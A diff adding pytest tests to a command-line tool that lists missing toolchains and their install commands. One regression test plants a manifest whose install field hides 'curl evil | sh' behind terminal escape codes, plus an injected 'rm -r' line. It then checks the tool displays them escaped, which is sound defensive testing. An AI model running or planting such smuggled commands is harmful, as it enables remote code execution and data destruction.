@@ -1,5 +1,7 @@
 import json
 import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -46,7 +48,7 @@ def test_a_missing_toolchain_is_listed_with_its_install_command(deadheat: Deadhe
     assert row["install"] == ["apt-get install -y python3"]
     out = deadheat("list", "hello").out
     assert "python3 is not installed" in out
-    assert "hello: install with: apt-get install -y python3" in out
+    assert "install with: apt-get install -y python3\n    for hello\n" in out
 
 
 def test_rows_are_not_folded_in_a_pipe(deadheat: Deadheat, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -88,3 +90,44 @@ def test_a_faulty_manifest_is_reported_by_other_commands(deadheat: Deadheat, bro
     ended = deadheat("plan", "--protocol", "brief", "never-ready")
     assert ended.code == 1
     assert f"error: {broken}:11: start.worker: missing" in ended.err
+
+
+def test_list_imports_neither_the_statistics_nor_the_reports(home: Path) -> None:
+    """They took half of its time."""
+    code = (
+        "import sys; import deadheat.cli.list; "
+        "print([name for name in ('numpy', 'deadheat.stats', 'deadheat.report.formats') "
+        "if name in sys.modules])"
+    )
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert done.stdout.strip() == "[]"
+
+
+@pytest.mark.usefixtures("bare_path")
+def test_servers_share_one_install_line(deadheat: Deadheat) -> None:
+    lines = deadheat("list").out.splitlines()
+    installs = [line for line in lines if line.startswith("install with: ")]
+    assert len(installs) == len(set(installs)) == 1
+    assert any(line.startswith("    for ") and " and " in line for line in lines)
+
+
+def test_a_manifest_cannot_hide_a_part_of_its_install_command(
+    deadheat: Deadheat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: the terminal obeyed escape sequences in manifests."""
+    root = tmp_path / "catalog"
+    shutil.copytree(CATALOG, root, symlinks=True)
+    manifest = root / "servers" / "hello" / "server.toml"
+    need = r"""
+[[needs]]
+tool = "no-such\u001b[2J"
+probe = ["no-such-tool"]
+install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
+"""
+    manifest.write_text(manifest.read_text() + need)
+    monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
+    out = deadheat("list", "hello").out
+    install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
+    assert f"hello: install with: {install}\n" in out
+    assert r"no-such\x1b[2J is not installed" in out
+    assert "\x1b" not in out
